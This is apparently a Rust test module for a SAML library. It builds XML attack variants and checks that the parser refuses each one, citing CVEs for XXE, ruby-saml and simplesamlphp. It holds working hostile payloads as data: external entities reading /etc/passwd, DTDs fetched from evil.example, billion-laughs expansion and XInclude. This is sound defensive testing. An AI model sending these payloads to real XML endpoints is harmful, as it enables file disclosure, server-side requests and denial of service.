//! Document types, entities, inclusion.

use samlgate::base::Code;

use super::text::{about_the_victim, swap, text, with_text};
use super::{Attack, Class, Threat, VICTIM};

static DOCTYPE: Threat = Threat {
    class: Class::Markup,
    attack: "a document type that fetches, defines or changes: external entities, default attributes, IDs",
    source: "XXE, CWE-611; CVE-2018-0486 Shibboleth XMLTooling; CVE-2013-4517 Santuario; CVE-2024-52806 simplesamlphp/saml2; \
             CVE-2025-25291 ruby-saml (a document type that one of two parsers reads)",
    answer: "`xml::lexer` refuses `<!` but for comments and CDATA; the parser has `allow_dtd: false` besides",
};

static ENTITY: Threat = Threat {
    class: Class::Markup,
    attack: "a reference to an entity",
    source: "XML 1.0 section 4.1; billion laughs, CWE-776",
    answer: "`xml::lexer` accepts the five predefined entities and characters of XML",
};

static INCLUSION: Threat = Threat {
    class: Class::Markup,
    attack: "an element or attribute that makes a parser fetch: XInclude, schemaLocation, xml:base",
    source: "XInclude 1.0; XML Schema part 1, section 4.3.2",
    answer: "nothing is ever fetched; in signed octets it changes the digest",
};

pub(super) fn attacks() -> Vec<Attack> {
    let refused = Code::XmlDoctypeRefused;
    let doctype = |name: &str, declaration: &'static str| {
        DOCTYPE.text(name, refused, move |xml| Some(format!("{declaration}{xml}")))
    };
    let entity = |name: &str, reference: &'static str| {
        ENTITY.text(name, Code::XmlReferenceRefused, move |xml| {
            with_text(xml, "saml:NameID", |_| reference.to_owned())
        })
    };
    let mut attacks = vec![
        doctype("doctype", "<!DOCTYPE r>"),
        doctype("doctype-external-entity", "<!DOCTYPE r [<!ENTITY who SYSTEM \"file:///etc/passwd\">]>"),
        doctype("doctype-http-entity", "<!DOCTYPE r [<!ENTITY who SYSTEM \"http://evil.example/\">]>"),
        doctype(
            "doctype-parameter-entity",
            "<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://evil.example/e.dtd\"> %e;]>",
        ),
        doctype("doctype-external-subset", "<!DOCTYPE r SYSTEM \"http://evil.example/e.dtd\">"),
        doctype("doctype-public", "<!DOCTYPE r PUBLIC \"-//x//y\" \"http://evil.example/e.dtd\">"),
        doctype("doctype-id-attributes", "<!DOCTYPE r [<!ATTLIST saml:NameID Format ID #IMPLIED>]>"),
        doctype(
            "doctype-default-attributes",
            "<!DOCTYPE r [<!ATTLIST saml:Assertion xmlns CDATA #FIXED \"urn:evil\">]>",
        ),
        doctype(
            "doctype-billion-laughs",
            "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
        ),
        doctype(
            "doctype-quadratic",
            "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\">]>",
        ),
        doctype("doctype-notation", "<!DOCTYPE r [<!NOTATION n SYSTEM \"file:///bin/sh\">]>"),
        doctype("doctype-in-lower-case", "<!doctype r>"),
        doctype("doctype-behind-a-comment", "<!-- x --><!DOCTYPE r>"),
        doctype("doctype-behind-a-declaration", "<?xml version=\"1.0\"?><!DOCTYPE r>"),
        DOCTYPE.text("doctype-behind-the-root", refused, |xml| Some(format!("{xml}<!DOCTYPE r>"))),
        DOCTYPE
            .text("doctype-inside", refused, |xml| swap(xml, "<samlp:Status>", "<!DOCTYPE r><samlp:Status>")),
        DOCTYPE.text("entity-declaration-inside", refused, |xml| {
            swap(xml, "<samlp:Status>", "<!ENTITY a \"b\"><samlp:Status>")
        }),
        // One parser of ruby-saml read the assertion in the literal, the other the one behind it.
        DOCTYPE.text("doctype-holds-an-assertion", refused, |xml| {
            let hostile = about_the_victim(xml)?.replace('"', "'");
            Some(format!("<!DOCTYPE r [<!ENTITY a \"{hostile}\"><!--]>-->]>{xml}"))
        }),
        DOCTYPE.text("conditional-section", refused, |xml| {
            swap(xml, "<samlp:Status>", "<![INCLUDE[x]]><samlp:Status>")
        }),
    ];
    attacks.extend([
        entity("entity-not-declared", "&admin;"),
        entity("entity-of-html", "admin&nbsp;"),
        entity("entity-without-an-end", "&amp admin"),
        entity("entity-parameter", "&%x;"),
        entity("entity-in-upper-case", "&AMP;admin"),
        ENTITY.text("entity-in-an-attribute", Code::XmlReferenceRefused, |xml| {
            swap(xml, "Destination=\"", "Destination=\"&x;")
        }),
        ENTITY.text("less-than-in-an-attribute", Code::XmlNotWellFormed, |xml| {
            swap(xml, "Destination=\"", "Destination=\"<")
        }),
        INCLUSION.text("xinclude-in-the-name", Code::DigestMismatch, |xml| {
            let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>";
            with_text(xml, "saml:NameID", |_| include.to_owned())
        }),
        INCLUSION.text("xml-base", Code::DigestMismatch, |xml| {
            swap(xml, "<saml:Subject>", "<saml:Subject xml:base=\"http://evil.example/\">")
        }),
        INCLUSION.harmless("xinclude-in-extensions", |xml| {
            let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
            swap(xml, "<samlp:Status>", &format!("<samlp:Extensions>{include}</samlp:Extensions><samlp:Status>"))
        }),
        INCLUSION.harmless("schema-location", |xml| {
            text(xml, "saml:NameID").filter(|name| *name != VICTIM)?;
            swap(
                xml,
                "<samlp:Response ",
                "<samlp:Response xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
                 xsi:schemaLocation=\"urn:x http://evil.example/x.xsd\" ",
            )
        }),
    ]);
    attacks
}
